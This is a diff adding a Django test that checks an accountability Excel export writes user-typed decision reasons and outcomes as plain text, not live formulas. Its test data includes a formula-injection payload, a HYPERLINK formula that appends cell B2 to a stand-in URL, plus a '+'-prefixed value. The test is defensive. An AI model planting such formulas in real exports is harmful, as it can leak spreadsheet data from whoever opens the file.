@@ -132,3 +132,23 @@ def test_bad_input_is_4xx_never_500(client, heze, proposal):
     assert api(client, heze, "shan_office", "get", f"{base}?state=nope").json()["code"] == "invalid_state"
     proposal.refresh_from_db()
     assert proposal.state == "pending"
+
+
+def test_export_writes_user_text_as_text_in_the_accountability_export(client, heze, proposal):
+    """Issue 13.2: a decision reason and an outcome typed as formulas reach the coordinator's Excel as text."""
+    import zipfile
+
+    formula = '=HYPERLINK("http://x?"&B2,"点我")'
+    proposal.state, proposal.decided_by, proposal.decision_reason, proposal.decided_at = "confirmed", heze.users.shan_office, formula, at(2026, 11, 4)
+    proposal.save()
+    Action.objects.create(proposal=proposal, kind="talk", held_on=at(2026, 11, 5).date(), participants="+王强", outcome=formula,
+                          recorded_by=heze.users.shan_office, recorded_at=at(2026, 11, 5))
+    client.force_login(heze.users.shan_office)
+    body = b"".join(client.get("/accountability/export.xlsx").streaming_content)
+    with zipfile.ZipFile(io.BytesIO(body)) as book:
+        sheets_xml = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
+    assert sheets_xml and not any("<f>" in x or "<f " in x for x in sheets_xml)
+    book = CalamineWorkbook.from_filelike(io.BytesIO(body))
+    proposals = {int(r[0]): r for r in book.get_sheet_by_name("问责建议").to_python()[1:]}
+    assert proposals[proposal.pk][11] == formula
+    assert book.get_sheet_by_name("问责记录").to_python()[1][5:7] == ["+王强", formula]
